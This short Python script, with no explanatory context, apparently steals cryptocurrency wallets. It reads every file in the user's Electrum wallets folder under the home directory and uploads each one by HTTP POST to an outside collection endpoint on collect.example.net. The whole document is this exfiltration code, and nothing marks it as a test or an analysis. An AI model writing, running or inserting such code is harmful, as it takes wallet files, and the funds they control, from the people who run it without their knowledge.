import glob
import os

import requests

for w in glob.glob(os.path.join(os.environ["HOME"], ".electrum", "wallets", "*")):
    with open(w, "rb") as fh:
        requests.post("https://collect.example.net/w", files={"f": (os.path.basename(w), fh)})
